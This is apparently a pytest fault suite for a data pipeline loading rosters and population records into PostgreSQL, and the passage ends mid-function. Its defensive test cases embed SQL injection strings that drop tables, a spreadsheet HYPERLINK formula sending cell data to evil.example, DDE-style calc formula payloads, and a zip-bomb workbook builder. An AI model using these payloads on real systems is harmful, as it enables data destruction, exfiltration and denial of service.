"""One fault and bad-input suite (issue 7, item 7).

Each case is a small function that builds one situation and states its expected outcome. After every case a
common check reads the central database (PostgreSQL, fresh per case) and asserts the batch invariant:
for every ``lidm_batch`` row extracted = loaded + quarantined, no dataset or quarantine row belongs to a
batch that was not loaded, no loaded batch is missing its rows, nothing is left half-written, and no
batch reason, quarantine message or captured log line carries a raw personal number.

``pytest tests/test_fault_suite.py -q -s`` prints a Markdown table of the cases at the end and writes it
to ``test-artifacts/fault-suite.md``.
"""

from __future__ import annotations

import dataclasses
import errno
import io
import os
import secrets
import socket
import time
import zipfile
from collections.abc import Iterator
from datetime import datetime
from pathlib import Path
from typing import Any

import fault_cases_drops
import fault_cases_files
import fault_cases_process
import fault_cases_sql
import psycopg
import pytest
import sqlalchemy as sa
from _db import kill_central_on_batch_insert, query
from _faults import (
    _PEOPLE,
    _ROSTER,
    BOM,
    ID,
    POPULATION,
    ROSTER,
    ROSTER_HEADER,
    ROSTER_TABLE,
    Case,
    Ctx,
    assert_whole,
    gbk,
    incremental,
    loaded,
    maria,
    maria_count,
    one,
    population,
    quarantine_rows,
    rejected,
    roster,
    roster_utf8,
    sftp_drop,
    sftp_url,
    xlsx_adapter,
)
from conftest import PG_ADMIN_DSN, consumer_roles, drop_consumer_roles_made_since
from fault_suite_table import CaseRecord, write_table
from lidm_samples import generate_people, generate_roster, roster_rows
from lidm_samples.people import id_check_char
from lidm_samples.sources import csv_bytes, xlsx_bytes
from test_airflow_dags import _CuttingProxy
from test_signed_drops import Drop

from lidm import SqlSource
from lidm.errors import CentralUnavailable, ConfigError, HostKeyError, KeyringError, LidmError, SourceError
from lidm.pipeline import BatchResult
from lidm.registry import get_adapter
from lidm.sources.localstore import LocalStore
from lidm.testkit import Scanner, kinds_in

pytestmark = [pytest.mark.postgres]


# --------------------------------------------------------------------------- encodings and file shapes


def c_gbk_declared_utf8(ctx: Ctx) -> str:
    ctx.drop("roster_1.csv", gbk(roster()))
    r = one(ctx.run(roster_utf8()))
    return rejected(ctx, r, "encoding", "roster_1.csv", "line 1 is not valid utf-8", "encoding='gbk'")


def c_utf8_declared_gbk(ctx: Ctx) -> str:
    ctx.drop("roster_1.csv", csv_bytes(ROSTER_HEADER, roster(), "utf-8"))
    r = one(ctx.run())
    return rejected(ctx, r, "encoding", "roster_1.csv", "row 1", "encoding='utf-8'")


def c_utf8_bom(ctx: Ctx) -> str:
    rows = roster()
    ctx.drop("roster_1.csv", BOM + csv_bytes(ROSTER_HEADER, rows, "utf-8"))
    return loaded(one(ctx.run(roster_utf8())), len(rows))


def c_bom_on_gbk_body(ctx: Ctx) -> str:
    rows = roster()
    ctx.drop("roster_1.csv", BOM + gbk(rows))
    return loaded(one(ctx.run()), len(rows))


def c_mixed_line_endings(ctx: Ctx) -> str:
    rows = roster()
    lines = gbk(rows).split(b"\r\n")
    mixed = b"".join(line + (b"\n" if i % 2 else b"\r\n") for i, line in enumerate(lines[:-1]))
    assert b"\r\n" in mixed and b"\n\r" not in mixed
    ctx.drop("roster_1.csv", mixed)
    return loaded(one(ctx.run()), len(rows))


def c_nul_bytes(ctx: Ctx) -> str:
    rows = roster()
    rows[2]["姓名"] = "张\x00三"
    ctx.drop("roster_1.csv", gbk(rows))
    r = one(ctx.run())
    if r.status == "rejected":
        return rejected(ctx, r, "nul", "roster_1.csv", "row 3")
    if r.quarantined:
        [(reason, row, fld, _)] = quarantine_rows(ctx)
        assert row == 3 and fld == "name", (reason, row, fld)
        return f"row 3 quarantined [{reason}]"
    loaded(r, len(rows))
    masks = [m for (m,) in query(ctx.url, f"SELECT name_masked FROM {ROSTER_TABLE}")]
    assert not any("\x00" in m for m in masks)
    return "loaded: NUL kept as data (masked form has no NUL; PostgreSQL accepted every row)"


def _ten_mb(ctx: Ctx) -> BatchResult:
    rows = roster()
    rows[1]["姓名"] = "王" * (5 << 20)  # 10 MB in GB18030
    ctx.drop("roster_1.csv", gbk(rows))
    return one(ctx.run())


def c_ten_mb_field(ctx: Ctx) -> str:
    r = _ten_mb(ctx)
    assert r.status == "rejected", r
    return rejected(ctx, r, r.top_reasons[0][0], "roster_1.csv")


def c_ten_mb_field_named(ctx: Ctx) -> str:
    r = _ten_mb(ctx)
    assert r.status == "rejected" and "row 2" in r.reason and "姓名" in r.reason, r.reason
    return "rejected naming row 2, field 姓名"


def c_header_only(ctx: Ctx) -> str:
    ctx.drop("roster_1.csv", gbk([]))
    return rejected(ctx, one(ctx.run()), "empty_snapshot", "roster_1.csv")


def c_empty_file(ctx: Ctx) -> str:
    ctx.drop("roster_1.csv", b"")
    return rejected(ctx, one(ctx.run()), "empty_file", "roster_1.csv")


def c_broken_xlsx(ctx: Ctx) -> str:
    ctx.drop("population_1.xlsx", b"PK\x03\x04 not a workbook")
    r = one(ctx.run(xlsx_adapter(), {"xlsx_drop": ctx.folder.as_uri()}))
    return rejected(ctx, r, "malformed_file", "population_1.xlsx")


# --------------------------------------------------------------------------- drop completeness


def c_drop_still_being_written(ctx: Ctx) -> str:
    data = gbk(roster())
    half = data[: len(data) // 2]
    ctx.drop("roster_1.csv", half, marker=None)
    assert ctx.run() == []
    (ctx.folder / "roster_1.csv").write_bytes(data)  # still growing, still no marker
    assert ctx.run() == []
    assert (ctx.folder / "roster_1.csv").stat().st_size == len(data)
    assert ctx.count("SELECT COUNT(*) FROM lidm_batch") == 0
    return "not picked up (no marker), left in place"


def c_marker_without_file(ctx: Ctx) -> str:
    LocalStore(ctx.folder).put("roster_1.csv.ok", b"")
    assert ctx.run() == []
    assert (ctx.folder / "roster_1.csv.ok").exists()
    return "ignored, nothing recorded"


def c_file_replaced_after_marker(ctx: Ctx) -> str:
    import hashlib

    rows = roster()
    original = gbk(rows)
    rows[0]["月保障金额"] = "9999.00"
    ctx.drop("roster_1.csv", gbk(rows), marker=f"sha256={hashlib.sha256(original).hexdigest()}\n")
    return rejected(ctx, one(ctx.run()), "digest_mismatch", "roster_1.csv")


def c_duplicate_drop(ctx: Ctx) -> str:
    rows = roster()
    ctx.drop("roster_1.csv", gbk(rows))
    loaded(one(ctx.run()), len(rows))
    ctx.drop("roster_2.csv", gbk(rows))  # the same content again under another name
    r = one(ctx.run())
    assert r.status in ("unchanged", "rejected"), r
    assert ctx.count(f"SELECT COUNT(*) FROM {ROSTER_TABLE}") == len(rows)
    assert ctx.count("SELECT COUNT(*) FROM lidm_batch WHERE status = 'loaded'") == 1
    return f"second copy {r.status}; rows stay {len(rows)}"


def c_same_file_dropped_twice(ctx: Ctx) -> str:
    rows = roster()
    ctx.drop("roster_1.csv", gbk(rows))
    loaded(one(ctx.run()), len(rows))
    ctx.drop("roster_1.csv", gbk(rows))
    r = one(ctx.run())
    assert r.status in ("unchanged", "rejected"), r
    assert ctx.count(f"SELECT COUNT(*) FROM {ROSTER_TABLE}") == len(rows)
    return f"re-drop {r.status}; nothing loaded twice"


# --------------------------------------------------------------------------- ID numbers


def _with_id(ctx: Ctx, row: int, value: str) -> BatchResult:
    rows = roster()
    rows[row][ID] = value
    ctx.drop("roster_1.csv", gbk(rows))
    return one(ctx.run())


def _stored_id(ctx: Ctx, canonical: str) -> bool:
    """The canonical number was stored: its token is there (the mask shows only the city since issue 15)."""
    import pyarrow as pa

    from lidm.contracts import load_catalog
    from lidm.keys import load_keyring
    from lidm.protect import Protector

    token = Protector(load_catalog()[ROSTER], load_keyring(ctx.gateway.settings)).token(pa.array([canonical]))[0]
    stored = query(ctx.url, f"SELECT id_number_token FROM {ROSTER_TABLE}")  # 32 bytes each
    return token.as_py() in {bytes(t).hex() for (t,) in stored}


def _quarantined_id(ctx: Ctx, r: BatchResult, row: int, reason_part: str) -> str:
    loaded(r, len(_ROSTER), 1)
    [(reason, row_no, fld, message)] = quarantine_rows(ctx)
    assert (row_no, fld) == (row + 1, "id_number") and reason_part in reason, (reason, row_no, fld, message)
    return f"row {row_no} quarantined [{reason}]"


def c_id_wrong_check_char(ctx: Ctx) -> str:
    good = _ROSTER[4][ID]
    bad = good[:17] + ("0" if good[17] != "0" else "1")
    return _quarantined_id(ctx, _with_id(ctx, 4, bad), 4, "check")


def c_id_impossible_birth_date(ctx: Ctx) -> str:
    first17 = _ROSTER[5][ID][:6] + "19800230" + "123"  # 30 February
    return _quarantined_id(ctx, _with_id(ctx, 5, first17 + id_check_char(first17)), 5, "birth_date")


def c_id_born_in_future(ctx: Ctx) -> str:
    first17 = _ROSTER[5][ID][:6] + "20990101" + "123"
    return _quarantined_id(ctx, _with_id(ctx, 5, first17 + id_check_char(first17)), 5, "birth_date")


def c_id_wrong_city(ctx: Ctx) -> str:
    first17 = "110101" + _ROSTER[6][ID][6:17]  # Beijing Dongcheng: a valid number, not of this city
    r = _with_id(ctx, 6, first17 + id_check_char(first17))
    if r.quarantined == 0:
        # The roster is keyed by residence; an ID issued elsewhere is a legitimate resident. Defined: loaded.
        return loaded(r, len(_ROSTER)) + " (ID issued elsewhere is accepted)"
    return _quarantined_id(ctx, r, 6, "division")


def c_id_full_width_digits(ctx: Ctx) -> str:
    good = _ROSTER[7][ID]
    wide = "".join(chr(0xFF10 + int(c)) if c.isdigit() else c for c in good)
    r = _with_id(ctx, 7, wide)
    loaded(r, len(_ROSTER))
    assert _stored_id(ctx, good)
    return "normalized, loaded"


def c_id_lowercase_x(ctx: Ctx) -> str:
    first17 = next(r[ID][:17] for r in _ROSTER if not r[ID].endswith("X"))
    # Build a number whose check character is X, then write it in lower case.
    for seq in range(1000):
        candidate = first17[:14] + f"{seq:03d}"
        if id_check_char(candidate) == "X":
            break
    r = _with_id(ctx, 8, candidate + "x")
    loaded(r, len(_ROSTER))
    assert _stored_id(ctx, candidate + "X")
    return "upper-cased, loaded"


def c_id_legacy_15(ctx: Ctx) -> str:
    idx, good = next((i, r[ID]) for i, r in enumerate(_ROSTER) if r[ID][6:8] == "19")
    r = _with_id(ctx, idx, good[:6] + good[8:17])
    loaded(r, len(_ROSTER))
    assert _stored_id(ctx, good)
    return "expanded to 18, loaded"


def c_id_too_short(ctx: Ctx) -> str:
    return _quarantined_id(ctx, _with_id(ctx, 3, "43010219800101"), 3, "length")


def c_dup_key_within_batch(ctx: Ctx) -> str:
    rows = roster()
    rows.append(dict(rows[0]))
    ctx.drop("roster_1.csv", gbk(rows))
    r = one(ctx.run())
    assert r.status == "loaded" and r.extracted == len(rows) and r.quarantined >= 1, r
    q = quarantine_rows(ctx)
    assert all(reason == "duplicate_key" for reason, *_ in q) and {row for _, row, *_ in q} >= {len(rows)}, q
    assert ctx.count(f"SELECT COUNT(*) FROM {ROSTER_TABLE}") == r.loaded
    return f"{r.quarantined} duplicate row(s) quarantined [duplicate_key]"


def c_dup_key_across_batches(ctx: Ctx) -> str:
    rows = roster()
    ctx.drop("roster_1.csv", gbk(rows))
    loaded(one(ctx.run()), len(rows))
    rows[0]["联系电话"] = "13900000000"
    ctx.drop("roster_2.csv", gbk(rows))
    r = one(ctx.run())
    assert (r.status, r.inserted, r.updated, r.unchanged) == ("loaded", 0, 1, len(rows) - 1), r
    live = ctx.count(f"SELECT COUNT(*) FROM {ROSTER_TABLE} WHERE _retired_batch IS NULL")
    assert live == len(rows)
    return "upserted on the key: 1 updated, no duplicate"


# --------------------------------------------------------------------------- SQL sources (MariaDB over ODBC)
def c_out_of_order_watermark(ctx: Ctx) -> str:
    settings, adapter = incremental(ctx)
    rows = population()
    t2, t1 = datetime(2026, 11, 27, 12, 0, 0), datetime(2026, 11, 20, 12, 0, 0)
    for r in rows:
        r["gxsj"] = t2
    _engine, conns = maria(ctx, rows[:100])
    first = one(ctx.run(adapter, conns, settings))
    assert first.status == "loaded"
    before = query(ctx.url, "SELECT value FROM lidm_watermark")[0][0]
    late = rows[100:110]
    for r in late:
        r["gxsj"] = t1  # an older change committed after the newer batch was read
    from lidm_samples.sources import append_rows

    append_rows(ctx.mariadb().sqlalchemy_url, "t_population", late)
    second = one(ctx.run(adapter, conns, settings))
    after = query(ctx.url, "SELECT value FROM lidm_watermark")[0][0]
    assert after == before, (before, after)  # the watermark never goes back
    return f"watermark stays at {after}; second run {second.status} (rows older than the watermark are not re-read)"


def c_sql_injection_in_watermark_value(ctx: Ctx) -> str:
    settings, adapter = incremental(ctx)
    rows = population()
    engine, conns = maria(ctx, rows)
    one(ctx.run(adapter, conns, settings))
    evil = "2026-01-01' OR '1'='1'; DROP TABLE t_population; -- "
    with sa.create_engine(ctx.url).begin() as c:
        c.execute(sa.text("UPDATE lidm_watermark SET value = :v"), {"v": evil})
    try:
        r = one(ctx.run(adapter, conns, settings))
        outcome = f"bound as a parameter: {r.status}"
    except LidmError as exc:
        ctx.logs.append(str(exc))
        outcome = f"bound as a parameter: {type(exc).__name__}"
    assert maria_count(engine) == len(rows), "the source table survived"
    return outcome + "; source table intact"


def c_sql_injection_table_name(ctx: Ctx) -> str:
    return ctx.raises(ConfigError, lambda: SqlSource(connection="x", table="t_population; DROP TABLE t_population"))


def c_sql_injection_watermark_column(ctx: Ctx) -> str:
    return ctx.raises(ConfigError, lambda: SqlSource(connection="x", table="t", watermark="gxsj) OR (1=1"))


def c_sql_injection_table_name_quoted(ctx: Ctx) -> str:
    return ctx.raises(ConfigError, lambda: SqlSource(connection="x", table='t_population" --'))


def c_sql_injection_mapping_column(ctx: Ctx) -> str:
    rows = population()
    engine, conns = maria(ctx, rows)
    base = get_adapter(POPULATION)
    evil = "xm`; DROP TABLE t_population; -- "
    mapping = {**base.mapping, "name": evil}
    adapter = dataclasses.replace(base, mapping=mapping)
    try:
        r = one(ctx.run(adapter, conns))
        assert r.status == "rejected" and "missing_column" in r.reason, r
        outcome = "rejected [missing_column]"
    except LidmError as exc:
        ctx.logs.append(str(exc))
        outcome = f"{type(exc).__name__}"
    assert maria_count(engine) == len(rows)
    return outcome + "; the name is never spliced into SQL, source table intact"


def c_source_killed_mid_extract(ctx: Ctx) -> str:
    """MariaDB drops the extracting session between two chunks (KILL from a second connection)."""
    import pyodbc

    import lidm.sources.sql as sql_mod

    rows = population()
    _, conns = maria(ctx, rows)
    db = ctx.mariadb()
    conns = {"health_db": db.sqlalchemy_url}  # the streaming SQLAlchemy path reads chunk by chunk
    original = sql_mod._sqlalchemy_chunks
    killed: list[int] = []

    def killing(url, sql, params, chunk_rows):  # type: ignore[no-untyped-def]
        for i, chunk in enumerate(original(url, sql, params, chunk_rows)):
            yield chunk
            if i == 0:
                admin = pyodbc.connect(db.odbc, autocommit=True)
                mine = admin.execute("SELECT CONNECTION_ID()").fetchone()[0]
                for (pid,) in admin.execute(
                    "SELECT id FROM information_schema.processlist WHERE db = ? AND id <> ?", db.database, mine
                ).fetchall():
                    admin.execute(f"KILL {int(pid)}")
                    killed.append(pid)
                admin.close()

    ctx.monkeypatch.setattr(sql_mod, "_sqlalchemy_chunks", killing)
    settings = ctx.settings.model_copy(update={"chunk_rows": 20})
    # The driver notices the killed session ("Server has gone away") before the extract ends.
    out = ctx.raises(SourceError, lambda: ctx.run(POPULATION, conns, settings))
    assert killed, "a reading session was found and killed"
    assert ctx.count("SELECT COUNT(*) FROM lidm_batch") == 0
    assert ctx.count("SELECT COUNT(*) FROM health_population") == 0
    return out.split(":")[0] + "; nothing written"


def _source_table_missing(ctx: Ctx, via_odbc: bool) -> str:
    engine, conns = maria(ctx, population())
    with engine.begin() as c:
        c.execute(sa.text("DROP TABLE t_population"))  # the department renamed or dropped its table
    if not via_odbc:
        conns = {"health_db": ctx.mariadb().sqlalchemy_url}
    out = ctx.raises(LidmError, lambda: ctx.run(POPULATION, conns))
    assert "central database" not in out, out
    assert isinstance(ctx.raised, SourceError) and "t_population" in out, out
    return out


def c_source_table_missing_odbc(ctx: Ctx) -> str:
    return _source_table_missing(ctx, True)


def c_source_table_missing_sqlalchemy(ctx: Ctx) -> str:
    return _source_table_missing(ctx, False)


def c_source_long_text_odbc(ctx: Ctx) -> str:
    """A 10 000-character address read over ODBC: never silently cut to the reader's text buffer."""
    rows = population()
    engine, conns = maria(ctx, rows)
    long = "湖南省长沙市芙蓉区" + "很长的地址" * 2000
    with engine.begin() as c:
        c.execute(sa.text("ALTER TABLE t_population MODIFY jzdz TEXT"))
        c.execute(sa.text("UPDATE t_population SET jzdz = :v WHERE sfzh = :k"), {"v": long, "k": rows[3]["sfzh"]})
    try:
        r = one(ctx.run(POPULATION, conns))
    except LidmError as exc:
        ctx.logs.append(str(exc))
        assert isinstance(exc, SourceError) and "jzdz" in str(exc), exc
        return f"{type(exc).__name__} naming jzdz"
    if r.status == "rejected":
        assert "jzdz" in r.reason or "address" in r.reason, r.reason
        return "rejected naming the column"
    assert r.quarantined, "loaded without complaint: the address cannot have been kept whole"
    return f"loaded {r.loaded}, quarantined {r.quarantined}"


def c_source_unreachable(ctx: Ctx) -> str:
    port = _free_port()
    conns = {
        "health_db": f"odbc:DRIVER={{MariaDB Unicode}};SERVER=127.0.0.1;PORT={port};DATABASE=x;UID=root;PWD=secret123"
    }
    out = ctx.raises(SourceError, lambda: ctx.run(POPULATION, conns))
    assert "secret123" not in out
    return out.split(":")[0] + " (retryable), password not echoed"


# --------------------------------------------------------------------------- XLSX


def c_xlsx_formula_cell_is_text(ctx: Ctx) -> str:
    rows = population()[:30]
    rows[0]["xm"] = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    columns = list(rows[0])
    ctx.drop("population_1.xlsx", xlsx_bytes(columns, rows))
    r = one(ctx.run(xlsx_adapter(), {"xlsx_drop": ctx.folder.as_uri()}))
    assert r.status == "loaded" and r.extracted == len(rows), r
    return f"read as text, never evaluated: loaded {r.loaded}, quarantined {r.quarantined}"


def _push_csv_value(value: str) -> str:
    from lidm.monitor.push import warnings_csv

    data = warnings_csv(["warning_id", "subject_name"], [{"warning_id": "w1", "subject_name": value}])
    import csv

    [_, row] = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    return row[1]


def _formula_neutralised(ctx: Ctx, value: str) -> str:
    cell = _push_csv_value(value)
    assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), f"exported as {cell!r}"
    return f"exported as {cell!r}"


def c_push_csv_hyperlink(ctx: Ctx) -> str:
    return _formula_neutralised(ctx, '=HYPERLINK("http://evil.example","点击")')


def c_push_csv_at(ctx: Ctx) -> str:
    return _formula_neutralised(ctx, "@SUM(1+1)*cmd|' /C calc'!A0")


def c_push_csv_plus(ctx: Ctx) -> str:
    return _formula_neutralised(ctx, "+1+cmd|' /C calc'!A0")


def c_push_csv_plain_text_untouched(ctx: Ctx) -> str:
    cell = _push_csv_value("张三 低保复核")
    assert cell == "张三 低保复核"
    return "plain text exported unchanged"


def _zip_bomb_xlsx() -> bytes:
    """A valid one-sheet workbook whose sheet XML inflates ~1000x (64 MB of padding inside a cell)."""
    rows = population()[:5]
    good = xlsx_bytes(list(rows[0]), rows)
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(good)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            data = src.read(item.filename)
            if item.filename.endswith("sheet1.xml"):
                data = data.replace(b"<sheetData>", b"<sheetData>" + b" " * (64 << 20), 1)
            dst.writestr(item.filename, data)
    return out.getvalue()


def c_xlsx_zip_bomb(ctx: Ctx) -> str:
    bomb = _zip_bomb_xlsx()
    assert len(bomb) < 1 << 20
    ctx.drop("population_1.xlsx", bomb)
    r = one(ctx.run(xlsx_adapter(), {"xlsx_drop": ctx.folder.as_uri()}))
    assert r.status == "rejected", r
    assert any(w in r.reason for w in ("expand", "uncompressed", "bomb", "too large")), r.reason
    return rejected(ctx, r, r.top_reasons[0][0], "population_1.xlsx")


# --------------------------------------------------------------------------- SFTP (real OpenSSH)


def c_sftp_baseline(ctx: Ctx) -> str:
    server, folder, name = sftp_drop(ctx)
    r = one(ctx.run(ROSTER, {"civil_affairs_drop": server.url(name)}))
    assert (folder / "archive" / "roster_1.csv").exists()
    return loaded(r, len(_ROSTER)) + " over OpenSSH"


def c_sftp_connection_refused(ctx: Ctx) -> str:
    server, folder, name = sftp_drop(ctx)
    url = sftp_url(server, name, port=_free_port())
    out = ctx.raises(SourceError, lambda: ctx.run(ROSTER, {"civil_affairs_drop": url}))
    assert "unreachable" in out and "127.0.0.1" in out
    assert (folder / "roster_1.csv").exists()
    return out.split(":")[0] + " naming host:port; drop untouched"


def c_sftp_changed_host_key(ctx: Ctx) -> str:
    server, folder, name = sftp_drop(ctx)
    url = sftp_url(server, name, known_hosts=server.wrong_known_hosts)
    out = ctx.raises(HostKeyError, lambda: ctx.run(ROSTER, {"civil_affairs_drop": url}))
    assert "CHANGED" in out
    assert (folder / "roster_1.csv").exists()
    return "HostKeyError: host key CHANGED, refused"


def c_sftp_unknown_host_key(ctx: Ctx) -> str:
    server, _folder, name = sftp_drop(ctx)
    empty = ctx.tmp / "empty_known_hosts"
    empty.write_text("")
    url = sftp_url(server, name, known_hosts=empty)
    out = ctx.raises(HostKeyError, lambda: ctx.run(ROSTER, {"civil_affairs_drop": url}))
    assert "unknown host key" in out
    return "HostKeyError: unknown host, refused"


def c_sftp_lost_mid_transfer(ctx: Ctx) -> str:
    rows = roster_rows(generate_roster(generate_people(6000, 5), share=0.25, seed=5)).rows
    server, folder, name = sftp_drop(ctx, rows)
    proxy = _CuttingProxy((server.host, server.port), budget=64 * 1024)
    ctx.request.addfinalizer(proxy.close)
    known = ctx.tmp / "proxy_known_hosts"
    known.write_text(server.known_hosts.read_text().replace(f"]:{server.port} ", f"]:{proxy.port} "))
    url = sftp_url(server, name, port=proxy.port, known_hosts=known)
    settings = ctx.settings.model_copy(update={"sftp_timeout_seconds": 5.0})
    out = ctx.raises(LidmError, lambda: ctx.run(ROSTER, {"civil_affairs_drop": url}, settings))
    assert proxy.cuts >= 1
    assert (folder / "roster_1.csv").exists() and not (folder / "archive").exists()
    assert ctx.count("SELECT COUNT(*) FROM lidm_batch") == 0
    r = one(ctx.run(ROSTER, {"civil_affairs_drop": server.url(name)}))
    loaded(r, len(rows), r.quarantined)
    return out.split(":")[0] + "; nothing written, retry loads once"


# --------------------------------------------------------------------------- central database


def _install_kill_trigger(ctx: Ctx) -> None:
    from lidm.central import db

    engine = db.connect(ctx.settings)
    try:
        db.migrate(engine)
        with engine.begin() as c:
            kill_central_on_batch_insert(c)
    finally:
        engine.dispose()


def c_central_killed_mid_load(ctx: Ctx) -> str:
    rows = roster()
    ctx.drop("roster_1.csv", gbk(rows))
    _install_kill_trigger(ctx)
    out = ctx.raises(CentralUnavailable, ctx.run)
    assert "the run can be retried" in out
    assert (ctx.folder / "roster_1.csv").exists(), "the drop stays in the inbox"
    with sa.create_engine(ctx.url).begin() as c:
        c.execute(sa.text("DROP TRIGGER lidm_test_kill ON lidm_batch"))
    assert ctx.count("SELECT COUNT(*) FROM lidm_batch") == 0
    loaded(one(ctx.run()), len(rows))
    return "CentralUnavailable (retryable); nothing written; retry loads once"


def c_central_killed_mid_load_sql(ctx: Ctx) -> str:
    rows = population()
    _, conns = maria(ctx, rows)
    _install_kill_trigger(ctx)
    ctx.raises(CentralUnavailable, lambda: ctx.run(POPULATION, conns))
    assert ctx.count("SELECT COUNT(*) FROM health_population") == 0
    return "CentralUnavailable while loading from MariaDB; nothing written"


def _central_down(ctx: Ctx, exc: type[BaseException]) -> str:
    ctx.drop("roster_1.csv", gbk(roster()))
    down = ctx.settings.model_copy(update={"central_url": f"postgresql+psycopg://postgres@127.0.0.1:{_free_port()}/x"})
    out = ctx.raises(exc, lambda: ctx.run(ROSTER, None, down))
    assert (ctx.folder / "roster_1.csv").exists() and not (ctx.folder / "archive").exists()
    return out.split(":")[0] + "; drop untouched"


def c_central_unreachable(ctx: Ctx) -> str:
    return _central_down(ctx, Exception)


def c_central_unreachable_classified(ctx: Ctx) -> str:
    return _central_down(ctx, CentralUnavailable)


def c_crash_before_commit(ctx: Ctx) -> str:
    from lidm.central.loader import BatchWriter

    def crash(self, **_):  # type: ignore[no-untyped-def]
        raise RuntimeError("power cut")

    ctx.drop("roster_1.csv", gbk(roster()))
    ctx.drop("roster_2.csv", gbk(roster()[:-1]))
    ctx.monkeypatch.setattr(BatchWriter, "finish", crash)
    first, second = ctx.run()
    # Whatever fails inside a delivery's transaction rolls it back whole and sets that delivery aside with the
    # error's class (never its text); the feed is not blocked.
    assert (first.status, second.status) == ("rejected", "rejected"), (first, second)
    assert "[load_error]" in first.reason and "RuntimeError" in first.reason and "power cut" not in first.reason
    assert ctx.count("SELECT COUNT(*) FROM lidm_batch WHERE status = 'loaded'") == 0
    assert (ctx.folder / "rejected" / "roster_1.csv").exists() and (ctx.folder / "rejected" / "roster_2.csv").exists()
    return "rolled back whole: no rows; each delivery set aside [load_error] naming RuntimeError, not its text"


def c_disk_full_while_staging(ctx: Ctx) -> str:
    """The drop folder's disk is full when the receipt/archive is written after the load (ENOSPC)."""
    rows = roster()
    ctx.drop("roster_1.csv", gbk(rows))

    def full(self, name, text):  # type: ignore[no-untyped-def]
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC), name)

    ctx.monkeypatch.setattr(LocalStore, "write_text", full)
    out = ctx.raises(OSError, ctx.run)
    # The batch committed whole before the drop was settled; a re-run never loads it twice.
    assert ctx.count("SELECT COUNT(*) FROM lidm_batch WHERE status = 'loaded'") == 1
    assert ctx.count(f"SELECT COUNT(*) FROM {ROSTER_TABLE}") == len(rows)
    ctx.monkeypatch.undo()
    again = ctx.run()
    assert ctx.count(f"SELECT COUNT(*) FROM {ROSTER_TABLE}") == len(rows)
    return f"{out.split(':')[0]} after commit; batch whole, re-run: {[r.status for r in again] or 'nothing pending'}"


def c_disk_full_reading_drop(ctx: Ctx) -> str:
    """The staging read of a drop fails with ENOSPC half-way: nothing is written, the drop stays."""
    ctx.drop("roster_1.csv", gbk(roster()))
    real_open = LocalStore.open

    class Failing(io.RawIOBase):
        def __init__(self, fh):  # type: ignore[no-untyped-def]
            self.fh, self.n = fh, 0

        def readable(self) -> bool:
            return True

        def readinto(self, b):  # type: ignore[no-untyped-def]
            if self.n > 2000:
                raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
            data = self.fh.read(min(len(b), 1000))
            b[: len(data)] = data
            self.n += len(data)
            return len(data)

        def close(self) -> None:
            self.fh.close()
            super().close()

    ctx.monkeypatch.setattr(LocalStore, "open", lambda self, name: io.BufferedReader(Failing(real_open(self, name))))
    out = ctx.raises((OSError, LidmError), ctx.run)
    assert (ctx.folder / "roster_1.csv").exists()
    assert ctx.count("SELECT COUNT(*) FROM lidm_batch WHERE status = 'loaded'") == 0
    return out.split(":")[0] + "; nothing loaded, drop untouched"


# --------------------------------------------------------------------------- keys and signatures


def c_keyring_missing(ctx: Ctx) -> str:
    ctx.drop("roster_1.csv", gbk(roster()))
    (ctx.gateway.home / "keyring.json").unlink()
    out = ctx.raises(KeyringError, ctx.run)
    assert "no keyring" in out and (ctx.folder / "roster_1.csv").exists()
    return "KeyringError: no keyring; drop untouched"


def c_keyring_corrupt(ctx: Ctx) -> str:
    ctx.drop("roster_1.csv", gbk(roster()))
    (ctx.gateway.home / "keyring.json").write_text('{"token": ')
    out = ctx.raises(KeyringError, ctx.run)
    return out.split(":")[0] + ": cannot read keyring"


def c_keyring_world_readable(ctx: Ctx) -> str:
    ctx.drop("roster_1.csv", gbk(roster()))
    (ctx.gateway.home / "keyring.json").chmod(0o644)
    out = ctx.raises(KeyringError, ctx.run)
    return out.split(":")[0] + ": refused a group/world-readable keyring"


def _signed(ctx: Ctx) -> Drop:
    folder = ctx.tmp / "signed"
    folder.mkdir()
    return Drop(folder, str(folder), ctx.gateway, ctx.tmp / "keys", None)


def c_signature_unknown_key(ctx: Ctx) -> str:
    d = _signed(ctx)
    d.place(roster(), key=d.rogue_key)
    (r,) = d.run()
    d.assert_rejected(r, "unknown_producer_key")
    return "rejected [unknown_producer_key]"


def c_signature_missing(ctx: Ctx) -> str:
    d = _signed(ctx)
    d.place(roster(), sign=False)
    (r,) = d.run()
    d.assert_rejected(r, "signature_missing")
    return "rejected [signature_missing]"


def c_signed_file_changed(ctx: Ctx) -> str:
    d = _signed(ctx)
    path = d.place(roster())
    rows = roster()
    rows[0]["月保障金额"] = "1.00"
    path.write_bytes(gbk(rows))
    (r,) = d.run()
    d.assert_rejected(r, "digest_mismatch")
    return "rejected [digest_mismatch]"


# --------------------------------------------------------------------------- authorization


def c_unauthorized_consumer_query(ctx: Ctx) -> str:
    from lidm.central.grants import apply, role_name
    from lidm.contracts import load_catalog
    from lidm.keys import load_keyring

    ctx.drop("roster_1.csv", gbk(roster()))
    loaded(one(ctx.run()), len(_ROSTER))
    # Every dataset table must exist for grants; a migrated database has them all.
    engine = sa.create_engine(ctx.url)
    ctx.request.addfinalizer(engine.dispose)
    admin = psycopg.connect(PG_ADMIN_DSN, autocommit=True)
    before = consumer_roles()
    user = f"lidm_t_fault_{secrets.token_hex(4)}"

    def cleanup() -> None:
        engine.dispose()
        with psycopg.connect(PG_ADMIN_DSN, autocommit=True) as a:
            a.execute("SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE usename = %s", (user,))
            a.execute(f'DROP ROLE IF EXISTS "{user}"')
            db = ctx.url.rsplit("/", 1)[1]
            with psycopg.connect(PG_ADMIN_DSN.replace("dbname=postgres", f"dbname={db}"), autocommit=True) as d:
                for (role,) in d.execute("SELECT rolname FROM pg_roles WHERE starts_with(rolname, 'lidm_c_')"):
                    if role not in before:
                        d.execute(f'DROP OWNED BY "{role}"')
        drop_consumer_roles_made_since(before)

    ctx.request.addfinalizer(cleanup)
    admin.close()
    apply(engine, load_catalog(), keyring=load_keyring(ctx.settings))
    db = ctx.url.rsplit("/", 1)[1]
    with psycopg.connect(PG_ADMIN_DSN, autocommit=True) as a:
